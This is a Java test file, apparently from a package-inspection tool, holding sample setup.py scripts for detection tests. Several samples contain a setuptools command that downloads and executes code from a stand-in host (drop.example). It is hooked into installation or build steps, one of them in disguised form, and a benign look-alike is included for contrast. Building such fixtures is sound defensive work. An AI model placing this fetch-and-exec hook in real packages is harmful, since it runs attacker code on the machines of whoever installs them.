package cordon.inspect.corpus;

import java.util.List;

/** Commands of a {@code setup.py}, and by which names and ways they run. */
final class SetupCommandSamples {
  private static final String EVIL =
      """
      import requests
      from setuptools import Command, setup
      class Evil(Command):
          user_options = []
          def initialize_options(self): pass
          def finalize_options(self): pass
          def run(self):
              exec(requests.get('https://drop.example/a').text)
      """;

  private SetupCommandSamples() {}

  static List<Sample> all() {
    return List.of(
        Sample.setup(
            "a step of installing that comes with it",
            EVIL
                + """
                setup(name='sample', version='1.0', cmdclass={'install_egg_info': Evil})
                """),
        Sample.setup(
            "a command that another command runs",
            EVIL
                + """
                from setuptools.command.build_py import build_py
                class Build(build_py):
                    def run(self):
                        self.run_command('extra')
                        super().run()
                setup(name='sample', version='1.0', cmdclass={'extra': Evil, 'build_py': Build})
                """),
        Sample.setup(
            "a command that one setup names and another does not",
            EVIL
                + """
                if len(__file__) > 9999:
                    setup(cmdclass={'extra': Evil})
                setup(name='sample', version='1.0', cmdclass={n: c for n, c in zip(['install'], [Evil])})
                """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.setup(
            "a command that has to be asked for by its name",
            """
            import subprocess
            from setuptools import Command, setup
            class Diagrams(Command):
                user_options = []
                def initialize_options(self): pass
                def finalize_options(self): pass
                def run(self):
                    subprocess.check_call(['npm', 'install', '-g', 'diagrams-cli'])
            setup(name='sample', version='1.0', cmdclass={'install_diagrams': Diagrams})
            """));
  }
}
